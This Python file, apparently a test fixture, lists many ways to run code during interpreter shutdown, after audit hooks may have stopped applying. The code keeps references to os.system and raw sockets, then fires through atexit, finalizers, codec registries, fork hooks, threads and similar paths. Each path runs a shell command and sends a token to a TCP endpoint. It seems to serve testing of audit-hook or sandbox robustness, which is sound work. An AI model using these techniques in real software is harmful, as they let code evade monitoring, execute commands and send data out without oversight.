"""Act while Python ends: when modules are gone, and audit hooks too."""

import atexit
import codecs
import contextvars
import os
import sys
import threading
import time
import weakref

import _socket
import aim


class Late:
    """Acts when it is deleted, with what it has kept for that."""

    def __init__(self):
        self.kept = os.system, aim.SHELL, os.open, os.read, os.write, _socket.socket

    def __call__(self, *_, **__):
        return None

    def __del__(self):
        act(*self.kept)


def act(
    system=os.system,
    line=aim.SHELL,
    *_,
    connection=_socket.socket,
    to=aim.TCP,
    what=aim.TOKEN,
    tell=os.write,
):
    """Run a program and connect, without a name that may be gone."""
    for way in (lambda: system(line), lambda: sent(connection, to, what)):
        try:
            way()
        except BaseException as error:
            tell(2, f"{error.__class__.__name__}: {error}\n".encode())


def sent(made, to, what, family=_socket.AF_INET, kind=_socket.SOCK_STREAM):
    connection = made(family, kind, 0)
    connection.connect(to)
    connection.send(what.encode())


def in_frame():
    """Be held by a generator that is never finished."""

    def waiting():
        try:
            yield
        finally:
            act()

    generator = waiting()
    next(generator)
    sys.modules["kept"] = generator


def waiting_thread():
    """Be a thread that goes on when the main one has ended, and for which Python waits."""

    def wait():
        threading.main_thread().join()
        act()

    threading.Thread(target=wait).start()


def cyclic():
    """Be part of what only the last collection finds."""
    late = Late()
    late.self = late
    late.module = sys.modules[__name__]


def in_thread():
    """Be of a thread that is still there at the end."""
    kept = threading.local()
    kept.late = Late()
    sys.modules["kept"] = kept
    threading.Thread(
        target=lambda: setattr(kept, "late", Late()) or time.sleep(100), daemon=True
    ).start()


def in_context():
    kept = contextvars.ContextVar("kept")
    kept.set(Late())


def kept_in(owner):
    setattr(owner, "kept", Late())


def in_type():
    """Be an attribute of a class that is never freed."""
    import enum

    class Kept(enum.IntFlag):
        one = 1

    Kept.late = Late()
    sys.modules["kept"] = Kept


def in_search():
    """Be held by a function that looks up codecs."""
    late = Late()
    codecs.register(lambda _name, late=late: None)


class Deep(Late):
    """Makes room again before it acts."""

    def __del__(self, limit=sys.setrecursionlimit, late=Late.__del__):
        limit(1000)
        late(self)


def without_room():
    """Have a hook fail at the end, when it is at its last."""

    def low():
        for depth in range(1, 50):
            try:
                sys.setrecursionlimit(depth)
                return
            except RecursionError:
                pass

    codecs.register_error("deep", Deep())
    atexit.register(low)


WAYS = {
    "atexit": lambda: atexit.register(act),
    "finalize": lambda: weakref.finalize(act, act) and kept_in(sys),
    "threading": lambda: threading._register_atexit(act),
    "thread": waiting_thread,
    "global": lambda: globals().update(late=Late()),
    "__main__": lambda: kept_in(sys.modules["__main__"]),
    "sys": lambda: kept_in(sys),
    "builtins": lambda: kept_in(sys.modules["builtins"]),
    "codec": lambda: codecs.register(Late()),
    "codec's function": in_search,
    "error handler": lambda: codecs.register_error("kept", Late()),
    "no room": without_room,
    "before fork": lambda: os.register_at_fork(before=Late()),
    "after fork": lambda: os.register_at_fork(after_in_child=Late(), after_in_parent=Late()),
    "generator": in_frame,
    "cycle": cyclic,
    "thread's": in_thread,
    "context": in_context,
    "class": in_type,
    "asyncgen": lambda: sys.set_asyncgen_hooks(firstiter=Late(), finalizer=Late()),
    "trace": lambda: sys.setprofile(Late()),
    "interned": lambda: sys.modules.update({aim.TOKEN: Late()}),
}
aim.goes_to_the_end = True
WAYS[aim.VARIANT]()
